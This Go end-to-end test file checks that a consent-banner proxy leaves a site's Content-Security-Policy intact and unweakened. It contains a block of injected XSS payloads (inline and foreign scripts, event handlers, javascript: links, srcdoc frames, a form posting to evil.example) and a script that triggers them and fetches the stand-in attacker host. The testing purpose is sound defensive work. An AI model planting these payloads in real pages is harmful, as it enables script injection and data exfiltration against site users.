package e2e

import (
	"encoding/json"
	"fmt"
	"html"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/cdproto/storage"
	"github.com/chromedp/chromedp"
)

// strictPolicies are what sites state beside sitePolicies, in which the banner could
// be caught by its pictures, frames, forms, addresses or scripts.
func strictPolicies() map[string][]string {
	policies := sitePolicies()
	maps.Copy(policies, map[string][]string{
		"pictures self":          {"default-src 'self'; img-src 'self'"},
		"pictures and fonts":     {"default-src 'none'; script-src 'self'; style-src 'self'; img-src https: data:; font-src 'none'"},
		"base none":              {"base-uri 'none'; object-src 'none'"},
		"strict style nonce":     {"default-src 'none'; script-src 'nonce-r4nd0m' 'strict-dynamic'; style-src 'nonce-r4nd0m'"},
		"trusted types, default": {"require-trusted-types-for 'script'; trusted-types default; script-src 'self'"},
		"everything none":        {"default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"},
		"upper case, crowded":    {"DEFAULT-SRC 'NONE' ;; SCRIPT-SRC 'SELF';STYLE-SRC 'Self'"},
	})
	return policies
}

// injected is what an attacker got into a page. Each part tells that it ran.
const injected = `<script>(window.got ||= []).push('inline')</script>
<script nonce=guessed>(window.got ||= []).push('guessed nonce')</script>
<script src=https://evil.example/x.js></script>
<script src=data:text/javascript,(window.got||=[]).push('data')></script>
<img src=data:, onerror="(window.got ||= []).push('handler')">
<style>#styled { outline: 3px solid }</style><link rel=stylesheet href=https://evil.example/x.css>
<img src=https://evil.example/x.png><img id=dot src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7>
<iframe src=https://evil.example/embed/x></iframe><iframe srcdoc="<script>(parent.got ||= []).push('srcdoc')</script>"></iframe>
<a id=run href="javascript:void (window.got ||= []).push('address')">x</a>
<form id=form action=https://evil.example/form target=hole><iframe name=hole></iframe></form>`

// taken does what is left to do for the attacker, and promises a list of what was got.
const taken = `(async () => {
	const got = window.got ||= [];
	try { document.getElementById('styled').innerHTML = '<b id=sink></b>'; document.getElementById('sink') && got.push('sink') } catch {}
	document.getElementById('run').click();
	document.getElementById('form').submit();
	await fetch('https://evil.example/fetch', { mode: 'no-cors' }).then(() => got.push('fetch'), () => {});
	await new Promise(resolve => setTimeout(resolve, 300));
	if (getComputedStyle(document.getElementById('styled')).outlineStyle === 'solid') got.push('style');
	if (document.getElementById('dot').naturalWidth) got.push('data picture');
	return [...new Set(got)].sort();
})()`

// policySite answers /<delivery>/<policy>, with /attacked behind it for a page that
// an attacker got something into.
func policySite(t *testing.T, policies map[string][]string) *httptest.Server {
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if name, script := strings.CutSuffix(r.URL.Path, ".js"); script {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, "(window.ran ||= []).push(%q)", name)
			return
		}
		parts := strings.Split(strings.Trim(r.URL.Path, "/"), "/")
		if len(parts) < 2 {
			http.NotFound(w, r)
			return
		}
		metas := ""
		for _, policy := range policies[parts[1]] {
			switch parts[0] {
			case "header":
				w.Header().Add("Content-Security-Policy", policy)
			case "report":
				w.Header().Add("Content-Security-Policy-Report-Only", policy)
			case "meta":
				metas += `<meta http-equiv="Content-Security-Policy" content="` + html.EscapeString(policy) + `">`
			}
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		text := strings.Replace(sitePage, "<title>", metas+"<link rel=icon href=data:,><title>", 1)
		if len(parts) > 2 {
			text = strings.Replace(text, "</body>", injected+"</body>", 1)
		}
		io.WriteString(w, text)
	}))
	t.Cleanup(site.Close)
	return site
}

// console keeps what a tab's console shows, without the policies that it cites.
type console struct {
	mu    sync.Mutex
	lines []string
}

// quoted is what a message cites: the policy, which the edge may have admitted itself
// to, and addresses.
var quoted = regexp.MustCompile(`(?s)(Content Security Policy|Trusted Type|directive|"default-src|"script-src|"style-src).*|https?://[^/ ]*|'sha256-[^']*'`)

func (c *console) add(kind, text string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.lines = append(c.lines, kind+": "+quoted.ReplaceAllString(text, "$1"))
}

// take returns the lines since the last time, sorted.
func (c *console) take() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	lines := c.lines
	c.lines = nil
	slices.Sort(lines)
	return lines
}

// watchConsole notes from now on what the tab's console shows as an error or warning,
// and all that pages write there.
func (b *browser) watchConsole() *console {
	b.t.Helper()
	c := new(console)
	err := chromedp.Listen(b.ctx, func(event any) {
		switch e := event.(type) {
		case *log.EventEntryAdded:
			if e.Entry.Level == "error" || e.Entry.Level == "warning" {
				c.add(string(e.Entry.Source)+" "+string(e.Entry.Level), e.Entry.Text)
			}
		case *runtime.EventConsoleAPICalled:
			text, _ := json.Marshal(e.Args)
			c.add("console "+string(e.Type), string(text))
		case *runtime.EventExceptionThrown:
			c.add("exception", e.ExceptionDetails.Text)
		}
	})
	if err != nil {
		b.t.Fatal(err)
	}
	call(b, log.Enable, cdp.Empty{})
	call(b, runtime.Enable, cdp.Empty{})
	return c
}

// watchViolations has every page note the violations of policies that it is told of.
const watchViolations = `window.violations = [];
addEventListener('securitypolicyviolation', e => violations.push(
	[e.disposition, e.effectiveDirective, e.blockedURI.replace(/^https?:\/\/[^\/]*/, ''), e.sample.slice(0, 12)].join(' ')))`

// seenOf is the banner as it is painted: every computed style and every box in it, and
// that its answers are what lies on top.
const seenOf = `(root => {
	const boxes = [...root.querySelectorAll('*')].filter(e => e.localName !== 'style').map(e => {
		const r = e.getBoundingClientRect(), style = getComputedStyle(e);
		return e.localName + [r.x, r.y, r.width, r.height] + ';' + [...style].filter(name => !name.startsWith('--')).map(name => name + ':' + style[name]).join(';');
	});
	const answers = [...root.querySelectorAll('button[value=accept], button[value=refuse], :host > a')].map(e => {
		const r = e.getBoundingClientRect();
		return e.value + (root.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2) === e ? ' on top' : ' covered');
	});
	return [answers.join(), ...boxes];
})`

// visited is what a page showed.
type visited struct {
	console    []string
	violations []string
	ran        []string
}

// look opens a page and returns what it showed until it was quiet.
func (b *browser) look(c *console, address, ready string) visited {
	b.t.Helper()
	c.take()
	b.visit(address)
	b.until(ready)
	return b.shown(c)
}

// shown is what the page that is open has shown so far.
func (b *browser) shown(c *console) visited {
	b.t.Helper()
	v := visited{ran: must[[]string](b, ran)}
	v.violations = must[[]string](b, `(window.violations || []).sort()`)
	v.console = c.take()
	return v
}

// wantSame compares what a page showed with what it shows without the edge.
func (v visited) wantSame(t *testing.T, where string, plain visited) {
	t.Helper()
	if !slices.Equal(v.ran, plain.ran) {
		t.Errorf("%s: ran %q, without the edge %q", where, v.ran, plain.ran)
	}
	if !slices.Equal(v.violations, plain.violations) {
		t.Errorf("%s: violations %q\nwithout the edge %q", where, v.violations, plain.violations)
	}
	if !slices.Equal(v.console, plain.console) {
		t.Errorf("%s: the console shows\n%s\nwithout the edge\n%s", where, strings.Join(v.console, "\n"), strings.Join(plain.console, "\n"))
	}
}

// Under every policy, stated by header, by meta element or to report only, with and
// without JavaScript, the banner is painted as without any, takes an answer, and adds
// no violation and no message; so does the control behind it.
func TestUnderEveryPolicyNothingIsBrokenOrComplained(t *testing.T) {
	policies := strictPolicies()
	site := policySite(t, policies)
	for _, scripts := range []bool{true, false} {
		t.Run(fmt.Sprintf("scripts %t", scripts), func(t *testing.T) {
			t.Parallel()
			s := newServer(t, "UPSTREAM="+site.URL)
			s.behindProxy()
			s.start()
			b := openBrowser(t, newWorld(t))
			b.screen(1280, 800)
			b.scripts(scripts)
			c := b.watchConsole()
			call(b, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: watchViolations})
			b.visit(s.url("/header/none"))
			b.until(asked)
			wantBanner := must[[]string](b, seenOf+`(`+bannerRoot+`)`)
			choices := 0
			for _, delivery := range []string{"header", "meta", "report"} {
				for _, name := range slices.Sorted(maps.Keys(policies)) {
					choices++
					t.Run(delivery+"/"+name, func(t *testing.T) {
						b.t = t
						defer func() { call(b, storage.ClearCookies, storage.ClearCookiesParams{}) }()
						b.from(choices)
						path := "/" + delivery + "/" + url.PathEscape(name)
						plain := b.look(c, site.URL+path, "true")
						b.look(c, s.url(path), asked).wantSame(t, "undecided", plain)
						got := must[[]string](b, seenOf+`(`+bannerRoot+`)`)
						if !slices.Equal(got, wantBanner) {
							t.Errorf("the banner is painted as %s", firstDifference(got, wantBanner))
						}
						b.click(bannerPart("button[value=" + []string{"accept", "refuse"}[choices%2] + "]"))
						b.until(decided)
						after := b.shown(c)
						// A page may have been loaded again while it was being loaded again.
						after.console, plain.console = slices.Compact(after.console), slices.Compact(plain.console)
						after.wantSame(t, "decided", plain)
					})
					b.t = t
				}
			}
		})
	}
}

// firstDifference describes where two lists part.
func firstDifference(got, want []string) string {
	for i := range min(len(got), len(want)) {
		if got[i] == want[i] {
			continue
		}
		one, other := strings.Split(got[i], ";"), strings.Split(want[i], ";")
		for j := range min(len(one), len(other)) {
			if one[j] != other[j] {
				return fmt.Sprintf("%s, want %s, in %.60s", one[j], other[j], got[i])
			}
		}
	}
	return fmt.Sprintf("%d elements, want %d", len(got), len(want))
}

// What an attacker can't do in a page under the site's policy can't be done with the
// edge before it.
func TestNoPolicyIsWeakened(t *testing.T) {
	for _, delivery := range []string{"header", "meta"} {
		t.Run(delivery, func(t *testing.T) {
			t.Parallel()
			testNotWeakened(t, delivery)
		})
	}
}

func testNotWeakened(t *testing.T, delivery string) {
	policies := strictPolicies()
	site := policySite(t, policies)
	w := newWorld(t)
	w.answer = func(address string) string {
		if address == "evil.example/x.js" {
			return content("text/javascript", "(window.got ||= []).push('foreign')")
		}
		if address == "evil.example/x.css" {
			return content("text/css", "#styled { color: red }")
		}
		return ""
	}
	s := startServer(t, "UPSTREAM="+site.URL)
	b := openBrowser(t, w)
	attack := func(address string) []string {
		w.forget()
		b.visit(address)
		must[bool](b, `(`+taken+`.then(got => window.taken = got), true)`)
		b.until(`!!window.taken`)
		got := must[[]string](b, `taken`)
		for _, request := range w.asked() {
			if strings.HasPrefix(request, "evil.example/") {
				got = append(got, request)
			}
		}
		return got
	}
	got := make(map[string]int)
	for _, name := range slices.Sorted(maps.Keys(policies)) {
		path := "/" + delivery + "/" + url.PathEscape(name) + "/attacked"
		alone := attack(site.URL + path)
		for _, what := range alone {
			got[what]++
		}
		call(b, storage.ClearCookies, storage.ClearCookiesParams{})
		if more := missing(attack(s.url(path)), alone); len(more) > 0 {
			t.Errorf("%s, %s: with the edge an attacker gets %q too", delivery, name, more)
		}
	}
	t.Logf("of %d pages an attacker got %v", len(policies), got)
	for what, count := range got {
		if count == len(policies) {
			t.Errorf("%s works under every policy: that says nothing", what)
		}
	}
	if len(got) < 12 {
		t.Errorf("the attacks that work anywhere are %v", slices.Sorted(maps.Keys(got)))
	}
}
